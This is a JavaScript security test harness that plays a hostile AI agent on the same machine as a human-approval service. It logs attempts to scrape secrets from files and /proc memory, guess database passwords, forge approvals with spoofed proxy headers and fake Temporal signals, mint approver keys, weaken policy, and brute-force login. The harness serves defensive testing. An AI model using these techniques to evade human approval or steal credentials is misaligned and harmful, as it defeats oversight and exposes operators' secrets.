// An agent with a shell, its own key and read access to the working folder, as another account of the machine. Plain JavaScript, so that
// everything is loaded before it gives up the rights of root. Reads its targets as JSON from stdin, prints one JSON line per attempt:
// { kind, what, got }. `got` is what the attacker got; empty when it was refused.
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { closeSync, lstatSync, openSync, readdirSync, readFileSync, readSync } from 'node:fs';
import { join } from 'node:path';
import { Client, Connection } from '@temporalio/client';
import pg from 'pg';

const t = JSON.parse(readFileSync(0, 'utf8'));
if (t.uid !== undefined) {
  process.setgroups([]);
  process.setgid(t.uid);
  process.setuid(t.uid);
}
const say = (kind, what, got = '') => console.log(JSON.stringify({ kind, what, got }));
const attempt = async (kind, what, work) => {
  try {
    say(kind, what, String((await work()) ?? ''));
  } catch {
    say(kind, what);
  }
};
const SECRET = /lp_(?:test|live)_[A-Za-z0-9_-]+|[A-Za-z0-9+/]{43}=|(?<![\w-])[\w-]{32}(?![\w-])/g;
const isSought = (text) => t.sought.includes(createHash('sha256').update(text).digest('hex'));
const secretsOf = (text) => [...new Set(text.match(SECRET) ?? [])].filter(isSought).join(' ');

/** At most 1 MB of a file. */
const head = (path) => {
  const bytes = Buffer.alloc(1024 * 1024);
  const file = openSync(path, 'r');
  try {
    return bytes.toString('latin1', 0, readSync(file, bytes));
  } finally {
    closeSync(file);
  }
};
const below = (folder, depth) => {
  try {
    return readdirSync(folder, { withFileTypes: true }).flatMap((entry) => {
      const path = join(folder, entry.name);
      if (entry.isDirectory()) return depth > 0 && entry.name !== 'node_modules' ? below(path, depth - 1) : [];
      return entry.isFile() && lstatSync(path).size < 4 * 1024 * 1024 ? [path] : [];
    });
  } catch {
    return [];
  }
};

for (const path of [t.data_dir, ...t.files]) {
  await attempt('files', `read ${path}`, () => secretsOf(path === t.data_dir ? readdirSync(path).join() : head(path)));
  if (path === t.data_dir) await attempt('files', 'list the data folder', () => readdirSync(path).join(' '));
}
let read = 0;
const found = new Set();
for (const folder of t.folders)
  for (const path of below(folder, 12))
    try {
      const secrets = secretsOf(head(path));
      read += 1;
      for (const one of secrets.split(' ')) if (one !== '') found.add(one);
    } catch {}
say('files', `read ${read} files of the working folder and the temp folder`, [...found].join(' '));
for (const pid of t.pids) {
  for (const name of ['environ', 'cmdline', 'mem', 'maps'])
    await attempt('processes', `read /proc/${pid}/${name}`, () => secretsOf(head(`/proc/${pid}/${name}`)));
  await attempt('processes', `list /proc/${pid}/fd`, () => readdirSync(`/proc/${pid}/fd`).join(' '));
  if (t.uid !== undefined)
    await attempt('processes', `stop process ${pid}`, () => (process.kill(pid, 'SIGSTOP') ? 'stopped' : ''));
}

const database = new URL(t.database);
for (const user of ['postgres', 'letsping', 'letsping_service', 'letsping_app', 'root', 'nobody'])
  for (const password of ['', user, 'letsping', 'password', t.agent_api_key])
    await attempt('database', `connect as ${user}`, async () => {
      const client = new pg.Client({
        host: database.hostname,
        port: Number(database.port),
        database: 'letsping',
        user,
        password,
      });
      client.on('error', () => {});
      try {
        await client.connect();
        return 'connected';
      } finally {
        await client.end().catch(() => {});
      }
    });

const http = async (method, path, { key, body, headers = {} } = {}) => {
  const answer = await fetch(`${t.public_url}${path}`, {
    method,
    redirect: 'manual',
    headers: {
      ...(key && { authorization: `Bearer ${key}` }),
      ...(body && { 'content-type': 'application/json' }),
      ...headers,
    },
    ...(body && { body: JSON.stringify(body) }),
  });
  await answer.text();
  return answer.status >= 200 && answer.status < 400 ? `${answer.status}` : '';
};
const form = (path, fields) =>
  fetch(`${t.public_url}${path}`, {
    method: 'POST',
    redirect: 'manual',
    headers: { origin: t.public_url },
    body: new URLSearchParams(fields),
  }).then((answer) => (answer.status < 400 ? `${answer.status}` : ''));

for (const { id, payload_digest, own } of t.requests) {
  const path = `/api/approval-requests/${id}`;
  const decision = { type: 'approve', payload_digest };
  for (const key of [t.agent_api_key, 'lp_test_guessed', undefined])
    await attempt('http', `approve ${id}`, () => http('POST', `${path}/decisions`, { key, body: decision }));
  await attempt('http', `approve ${id} as a proxy says`, () =>
    http('POST', `${path}/decisions`, {
      key: t.agent_api_key,
      body: { ...decision, actor: 'dev-approver' },
      headers: { 'x-forwarded-user': 'dev-approver', 'x-forwarded-for': '127.0.0.1' },
    }),
  );
  if (!own) await attempt('http', `read ${id} of another owner`, () => http('GET', path, { key: t.agent_api_key }));
  if (!own)
    await attempt('http', `the status of ${id}`, () => http('GET', `/api/status/${id}`, { key: t.agent_api_key }));
  await attempt('http', `run ${id}`, () =>
    http('POST', `${path}/executed`, { key: t.agent_api_key, body: { payload_digest } }),
  );
  await attempt('page', `decide on ${id} without a session`, async () =>
    (await form(`/requests/${id}/decision`, { ...decision })).replace('303', ''),
  );
}
for (const [method, path, body] of [
  ['GET', '/api/keys'],
  ['POST', '/api/keys', { name: 'x', owner: 'dev-approver', role: 'approver' }],
  ['PUT', '/api/policy', { default_routing: 'observe' }],
  ['GET', '/api/policy'],
])
  await attempt('http', `${method} ${path}`, () => http(method, path, { key: t.agent_api_key, body }));
await attempt('page', 'sign in with the key of an agent', () => form('/login', { api_key: t.agent_api_key }));
for (let i = 0; i < 20; i++)
  await attempt('page', 'sign in with a guessed link', () => form('/login', { once: `${i}`.padStart(43, 'A') }));

// Refused or not, the command line prints: an exit code of 0 is what counts.
for (const { id, payload_digest } of t.requests)
  for (const env of [
    { LETSPING_DATA_DIR: t.data_dir },
    { LETSPING_BASE_URL: t.public_url, LETSPING_API_KEY: t.agent_api_key },
  ])
    await attempt('command line', `letsping approve ${id}`, () => {
      const args = [t.main, 'approve', id, '--digest', payload_digest];
      execFileSync(process.execPath, args, {
        env: { PATH: process.env.PATH, ...env },
        stdio: 'ignore',
        timeout: 30_000,
      });
      return 'approved';
    });

// Temporal on this machine has no login. What counts is the request, which the caller reads afterwards.
const connection = await Connection.connect({ address: t.temporal_address });
const client = new Client({ connection, namespace: t.temporal_namespace });
for (const { id, payload_digest } of t.requests) {
  const handle = client.workflow.getHandle(`approval/${id}`);
  for (const name of ['decide', 'decide_recorded'])
    for (const actor of ['slack-bot', 'dev-approver', 'bot:slack-bot'])
      await attempt('signal', `${name} as ${actor}`, async () => {
        await handle.signal(name, {
          type: 'approve',
          actor,
          payload_digest,
          decision_id: `dec_${actor}`,
          verified: true,
        });
      });
  await attempt('signal', 'cancel', async () => {
    await handle.cancel();
  });
}
await connection.close();
console.log(JSON.stringify({ kind: 'end', what: 'end', got: '' }));
process.exit(0);
